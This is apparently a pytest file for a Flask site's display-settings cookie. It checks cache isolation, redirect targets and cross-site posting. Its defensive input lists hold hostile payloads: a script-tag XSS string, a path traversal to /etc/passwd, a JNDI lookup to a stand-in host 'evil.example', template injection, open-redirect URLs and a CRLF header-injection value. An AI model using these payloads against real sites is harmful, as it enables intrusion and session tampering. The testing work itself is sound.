"""The cookie with display settings: nobody changes by it what others see, fills our memory, or leads readers away."""

from typing import Any

import pytest
from flask import Flask

from bmw.ui.display import OFFERED, Display

PAGE = "/de/vorschlaege"
DARK = Display(theme="dark")
USUAL = {name: values[0] for name, values in OFFERED.items()}
FORGED = (
    "",
    ".",
    "dark",
    f"{DARK.code}.extra",
    f" {DARK.code}x",
    f'{DARK.code}"><script>alert(1)</script>',
    "100.device.dark.normal.whole\\073view=x",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/}",
    "{{ 7 * 7 }}",
    "9" * 3000,
    "100.device.DARK.normal.whole",
    "%31%30%30.device.dark.normal.whole",
)
AWAY = (
    "https://evil.example/",
    "//evil.example/de/",
    "/\\evil.example",
    "/de//evil.example",
    "javascript:alert(1)",
    "/de/anmelden\r\nSet-Cookie: view=x",
    "/de/../../evil",
    "/de/ansicht@evil.example",
    "https:/de/hilfe",
)


def shelf(app: Flask) -> Any:
    return app.extensions["bmw_shelf"].pages


def as_reader(client: Any, cookie: str, path: str = PAGE) -> Any:
    return client.get(path, headers={"Cookie": f"view={cookie}"})


@pytest.fixture
def attacker(app: Flask) -> Any:
    """A browser whose cookies are written by hand."""
    return app.test_client(use_cookies=False)


def test_a_page_in_somebodys_colours_is_never_shown_to_others(attacker: Any, people: Any) -> None:
    assert 'data-theme="dark"' in as_reader(attacker, DARK.code).text  # it works for the one who chose
    for _first_made_then_kept in range(2):
        for who in ("guest", "citizen"):
            assert "data-theme" not in people[who].get(PAGE).text
        assert 'data-theme="dark"' in as_reader(attacker, DARK.code).text


def test_a_page_kept_for_everybody_does_not_undo_somebodys_choice(attacker: Any, people: Any) -> None:
    plain = people["guest"].get(PAGE)
    asked = {"Cookie": f"view={DARK.code}", "If-None-Match": plain.headers["ETag"]}
    answer = attacker.get(PAGE, headers=asked)
    assert answer.status_code == 200
    assert 'data-theme="dark"' in answer.text
    assert answer.headers["Cache-Control"].startswith("private")


@pytest.mark.parametrize("forged", FORGED)
def test_a_forged_cookie_changes_nothing_and_takes_no_room(app: Flask, attacker: Any, people: Any, forged: str) -> None:
    plain = people["guest"].get(PAGE)
    answer = as_reader(attacker, forged)
    assert (answer.status_code, answer.data) == (200, plain.data)
    assert len(shelf(app)) == 1


def test_of_two_cookies_one_counts_and_both_are_from_the_closed_set(app: Flask, attacker: Any) -> None:
    for pair in (f"x; view={DARK.code}", f"{DARK.code}; view=x"):
        as_reader(attacker, pair)
    assert len(shelf(app)) <= 2


def test_a_cookie_of_display_beside_a_session_keeps_nothing(app: Flask, people: Any) -> None:
    people["citizen"].set_cookie("view", DARK.code)
    answer = people["citizen"].get(PAGE)
    assert 'data-theme="dark"' in answer.text
    assert "no-store" in answer.headers["Cache-Control"]
    assert not shelf(app)


@pytest.mark.parametrize("away", AWAY)
def test_saving_leads_nowhere_but_to_our_own_pages(people: Any, away: str) -> None:
    assert people["guest"].send("/de/ansicht", 303, **USUAL, next="/de/hilfe").location == "/de/hilfe"
    answer = people["guest"].send("/de/ansicht", 303, **USUAL, next=away)
    assert answer.location == "/de/"
    assert "evil" not in str(answer.headers)


def test_no_other_site_changes_what_a_reader_sees(people: Any) -> None:
    dark = {**USUAL, "theme": "dark"}
    assert "Set-Cookie" in people["guest"].post("/de/ansicht", data=dict(dark)).headers
    foreign = people["guest"].post("/de/ansicht", data=dict(dark), headers={"Sec-Fetch-Site": "cross-site"})
    assert foreign.status_code == 403
    assert "Set-Cookie" not in foreign.headers


def test_the_page_of_settings_echoes_nothing_that_stood_in_its_address(people: Any) -> None:
    for away in AWAY:
        page = people["guest"].get("/de/ansicht", query_string={"next": away})
        assert "evil" not in page.text.split("<main", 1)[1].split("</main", 1)[0]
